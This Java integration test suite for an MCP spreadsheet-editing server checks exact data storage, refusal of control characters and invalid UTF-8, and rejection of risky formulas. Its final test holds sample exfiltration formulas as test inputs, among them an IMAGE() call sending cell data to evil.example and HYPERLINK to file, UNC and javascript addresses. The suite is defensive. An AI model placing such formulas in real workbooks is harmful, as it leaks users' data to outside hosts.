package dev.sheetsmith.server;

import static dev.sheetsmith.server.McpHttp.ok;
import static dev.sheetsmith.server.McpHttp.text;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Issue 14, items 5 and 6, through MCP on the whole app: data is kept exactly or refused with the
 * sheet and cell named, a refused call changes nothing (same sha256, same revision), and formulas
 * that would carry data out of the workbook are refused wherever formulas go in.
 */
class DataKeptExactlyIT {

    @RegisterExtension
    static final McpApp APP = McpApp.start("sheetsmith-exact-it");

    private final McpHttp http = APP.http();
    private final String session = APP.session(http);

    @Test
    void textWrittenOverTextTheCreatorWroteIsExactlyTheNewText() throws Exception {
        ok(call("create_excel_file", Map.of("filename", "over.xlsx", "data", List.of(record("Name", "d1", "Note", "n1")))));
        ok(call("write_range", Map.of("file", "over.xlsx", "start_cell", "A2", "values", List.of(List.of("X")))));
        assertThat(read("over.xlsx", "A2:B2")).isEqualTo("[[\"X\",\"n1\"]]");
        JsonNode last = ok(call("write_range", Map.of("file", "over.xlsx", "start_cell", "A2",
                "values", List.of(List.of("Z")))));
        ok(call("replace_cells", Map.of("file", "over.xlsx", "find", "n", "replace", "Q")));
        assertThat(read("over.xlsx", "A2:B2")).isEqualTo("[[\"Z\",\"Q1\"]]");

        byte[] xlsx = http.download(ok(call("write_range", Map.of("file", "over.xlsx", "start_cell", "C2",
                "values", List.of(List.of("_x0041_"))))).path("structuredContent").path("downloadUrl").asText()).body();
        String sheet = entry(xlsx, "xl/worksheets/sheet1.xml") + entry(xlsx, "xl/sharedStrings.xml");
        assertThat(sheet).doesNotContain("d1").doesNotContain("n1").contains(">Z<").contains(">Q1<");
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            assertThat(wb.getSheetAt(0).getRow(1).getCell(0).getStringCellValue()).isEqualTo("Z");
            assertThat(wb.getSheetAt(0).getRow(1).getCell(2).getStringCellValue()).isEqualTo("_x0041_");
        }
        assertThat(read("over.xlsx", "C2")).isEqualTo("[[\"_x0041_\"]]");
        assertThat(last.path("isError").asBoolean()).isFalse();
    }

    @Test
    void textExcelCannotHoldIsRefusedNamingTheCellAndChangesNothing() throws Exception {
        ok(call("create_excel_file", Map.of("filename", "safe.xlsx", "data", List.of(record("Name", "Ada", "Age", 36)))));
        String longer = "y".repeat(32_767);
        Map<String, Map<String, Object>> bad = new LinkedHashMap<>();
        bad.put("sheet 'Sheet1', cell B2: text contains the control character U+0000, which Excel cannot store",
                Map.of("tool", "write_range", "sheet", "Sheet1", "start_cell", "B2", "values",
                        List.of(List.of("a\u0000b"))));
        bad.put("cell C2: text contains the control character U+0001", Map.of("tool", "write_range",
                "start_cell", "C2", "values", List.of(List.of("=\"x\u0001\""))));
        bad.put("column 'Name' (A): text contains the control character U+001B", Map.of("tool", "append_rows",
                "data", List.of(record("Name", "\u001B[31mred"))));
        bad.put("sheet 'Sheet1', cell A2: text of 32769 characters is longer than Excel's 32767",
                Map.of("tool", "replace_cells", "find", "d", "replace", longer, "match_case", true));
        bad.put("'replace': text contains the control character U+0000", Map.of("tool", "replace_cells",
                "find", "Ada", "replace", "A\u0000"));
        bad.put("'text': text contains the control character U+0007", Map.of("tool", "set_note", "cell", "A2",
                "text", "ring\u0007"));
        bad.put("sheet name 'Bad\u0000': text contains the control character U+0000", Map.of("tool", "create_sheet",
                "sheet", "Bad\u0000"));
        bad.put("'comment': text contains the control character U+0002", Map.of("tool", "set_defined_name",
                "name", "Rate", "refers_to", "0.2", "comment", "x\u0002"));
        http.expectToolErrors(session, "safe.xlsx", bad);

        // A lone surrogate can only arrive as a JSON escape; it is refused, not stored as '?'.
        String body = "{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"tools/call\",\"params\":{\"name\":\"write_range\","
                + "\"arguments\":{\"file\":\"safe.xlsx\",\"start_cell\":\"A2\",\"values\":[[\"half \\ud83d\"]]}}}";
        JsonNode before = http.fileEntry(session, "safe.xlsx");
        JsonNode result = McpHttp.JSON.readTree(http.post(session, body).body()).path("result");
        assertThat(result.path("isError").asBoolean()).isTrue();
        assertThat(text(result)).contains("cell A2: text contains U+D83D, half of a character");
        assertThat(http.fileEntry(session, "safe.xlsx").path("sha256")).isEqualTo(before.path("sha256"));

        int files = filesCount();
        JsonNode created = call("create_excel_file", Map.of("filename", "never.xlsx",
                "data", List.of(record("Name", "nul\u0000"))));
        assertThat(created.path("isError").asBoolean()).isTrue();
        assertThat(text(created)).contains("sheet 'Sheet1', data[0] (data row 1), column 'Name' (A): text contains the"
                + " control character U+0000");
        assertThat(filesCount()).isEqualTo(files);
    }

    @Test
    void aCsvImportWithTextTooLongForACellIsAToolErrorNamingTheCell() throws Exception {
        String csv = "Name,Story\nAda,short\nGrace," + "z".repeat(40_000) + "\n";
        int files = filesCount();
        JsonNode result = call("import_file", Map.of("filename", "long.csv",
                "content_base64", Base64.getEncoder().encodeToString(csv.getBytes(StandardCharsets.UTF_8))));
        assertThat(result.path("isError").asBoolean()).as(result.toString()).isTrue();
        assertThat(text(result)).contains("sheet 'Sheet1', cell B3: text of 40000 characters is longer than Excel's"
                + " 32767").doesNotContain("operator");
        String nul = "Name\nA\u0000B\n";
        JsonNode control = call("import_file", Map.of("filename", "nul.csv",
                "content_base64", Base64.getEncoder().encodeToString(nul.getBytes(StandardCharsets.UTF_8))));
        assertThat(text(control)).contains("sheet 'Sheet1', cell A2: text contains the control character U+0000");
        assertThat(filesCount()).isEqualTo(files);
    }

    @Test
    void bodiesThatAreNotUtf8AreRefusedNotStoredAsReplacementCharacters() throws Exception {
        ok(call("create_excel_file", Map.of("filename", "bytes.xlsx", "data", List.of(record("Name", "Ada")))));
        JsonNode before = http.fileEntry(session, "bytes.xlsx");
        byte[] body = concat("{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{\"name\":"
                + "\"write_range\",\"arguments\":{\"file\":\"bytes.xlsx\",\"start_cell\":\"A2\",\"values\":[[\"caf",
                new byte[] {(byte) 0xE9}, "\"]]}}}");
        HttpClient client = HttpClient.newHttpClient();
        HttpResponse<String> mcp = client.send(HttpRequest.newBuilder(URI.create(http.url()))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).header("Content-Type", "application/json")
                .header("Accept", "application/json, text/event-stream").header("Mcp-Session-Id", session).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(mcp.statusCode()).isEqualTo(400);
        JsonNode error = McpHttp.JSON.readTree(mcp.body()).path("error");
        assertThat(error.path("code").asInt()).isEqualTo(-32700);
        assertThat(error.path("message").asText()).contains("not valid UTF-8");

        byte[] rest = concat("{\"file\":\"bytes.xlsx\",\"start_cell\":\"A2\",\"values\":[[\"caf", new byte[] {(byte) 0xE9},
                "\"]]}");
        HttpResponse<String> api = client.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:"
                + APP.getLocalPort() + "/api/tools/write_range")).POST(HttpRequest.BodyPublishers.ofByteArray(rest))
                .header("Content-Type", "application/json").build(), HttpResponse.BodyHandlers.ofString());
        assertThat(api.statusCode()).as(api.body()).isEqualTo(400);
        JsonNode after = http.fileEntry(session, "bytes.xlsx");
        assertThat(after.path("sha256")).isEqualTo(before.path("sha256"));
        assertThat(after.path("revision")).isEqualTo(before.path("revision"));
    }

    @Test
    void formulasThatCarryDataOutAreRefusedEverywhereFormulasGoIn() throws Exception {
        ok(call("create_excel_file", Map.of("filename", "links.xlsx", "data", List.of(record("Key", "B", "Code", "x1"),
                record("Key", "C", "Code", "x2")))));
        Map<String, Map<String, Object>> bad = new LinkedHashMap<>();
        bad.put("cell C2: IMAGE() is not allowed", cell("C2", "=IMAGE(\"http://evil.example/p.png?d=\"&B2)"));
        bad.put("cell C3: HYPERLINK to 'file:///C:/secret.xlsx' is not allowed",
                cell("C3", "=HYPERLINK(\"file:///C:/secret.xlsx\",\"open\")"));
        bad.put("cell C4: HYPERLINK to '\\\\host\\share' is not allowed", cell("C4", "=HYPERLINK(\"\\\\host\\share\")"));
        bad.put("cell C5: HYPERLINK to 'javascript:alert(1)'", cell("C5", "=HYPERLINK(\"javascript:alert(1)\")"));
        bad.put("cell C6: HYPERLINK's address is computed", cell("C6", "=HYPERLINK(\"fi\"&\"le://host/x\")"));
        bad.put("cell C7: the text '[other.xlsx]Sheet1!A1' would refer to another workbook",
                cell("C7", "=INDIRECT(\"[other.xlsx]Sheet1!A1\")"));
        bad.put("cell C8: the text 'le://' would refer", cell("C8", "=INDIRECT(\"fi\"&\"le://\"&B2)"));
        bad.put("sheet 'Sheet1', cell C4: HYPERLINK to 'file://x'", Map.of("tool", "append_rows",
                "data", List.of(List.of("D", "x3", "=HYPERLINK(\"file://x\")"))));
        bad.put("'refers_to': HYPERLINK's address is computed", Map.of("tool", "set_defined_name", "name", "Go",
                "refers_to", "HYPERLINK(Sheet1!$B$2)"));
        bad.put("IMAGE() is not allowed", Map.of("tool", "add_conditional_format", "range", "A2:A3",
                "type", "formula", "formula", "=ISREF(IMAGE(\"https://x/y.png\"))", "format", Map.of("fill_color",
                        "FFC7CE")));
        bad.put("would refer to another workbook", Map.of("tool", "add_data_validation", "range", "B2:B3",
                "type", "custom", "formula", "=ISREF(INDIRECT(\"'C:\\x\\[a.xlsx]S'!A1\"))"));
        http.expectToolErrors(session, "links.xlsx", bad);

        ok(call("write_range", Map.of("file", "links.xlsx", "start_cell", "C2", "values", List.of(
                List.of("=HYPERLINK(\"https://example.com/?q=\"&B2,\"search\")", "=HYPERLINK(\"mailto:a@example.org\")",
                        "=INDIRECT(\"A\"&ROW())", "=\"IMAGE(\"&B2", "=HYPERLINK(\"#Sheet1!A1\",\"top\")")))));
        assertThat(read("links.xlsx", "C2:G2")).isEqualTo("[[\"search\",\"mailto:a@example.org\",\"B\",\"IMAGE(x1\","
                + "\"top\"]]");
        ok(call("set_defined_name", Map.of("file", "links.xlsx", "name", "Pick", "refers_to",
                "INDIRECT(\"Sheet1!B\"&2)")));
        JsonNode formulas = ok(call("read_range", Map.of("file", "links.xlsx", "range", "C2", "mode", "formulas")));
        assertThat(formulas.path("structuredContent").path("rows").toString())
                .isEqualTo("[[\"=HYPERLINK(\\\"https://example.com/?q=\\\"&B2,\\\"search\\\")\"]]");
    }

    private static Map<String, Object> cell(String at, String formula) {
        return Map.of("tool", "write_range", "start_cell", at, "values", List.of(List.of(formula)));
    }

    private String read(String file, String range) throws Exception {
        return ok(call("read_range", Map.of("file", file, "range", range))).path("structuredContent").path("rows")
                .toString();
    }

    private int filesCount() throws Exception {
        return call("list_files", Map.of()).path("structuredContent").path("files").size();
    }

    private JsonNode call(String tool, Map<String, Object> args) throws Exception {
        return http.callTool(session, tool, args);
    }

    private static String entry(byte[] zip, String name) throws Exception {
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry e; (e = in.getNextEntry()) != null;) {
                if (e.getName().equals(name)) {
                    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        return "";
    }

    private static byte[] concat(String head, byte[] middle, String tail) {
        byte[] a = head.getBytes(StandardCharsets.UTF_8);
        byte[] c = tail.getBytes(StandardCharsets.UTF_8);
        byte[] out = new byte[a.length + middle.length + c.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(middle, 0, out, a.length, middle.length);
        System.arraycopy(c, 0, out, a.length + middle.length, c.length);
        return out;
    }

    private static Map<String, Object> record(Object... kv) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < kv.length; i += 2) {
            map.put((String) kv[i], kv[i + 1]);
        }
        return map;
    }
}
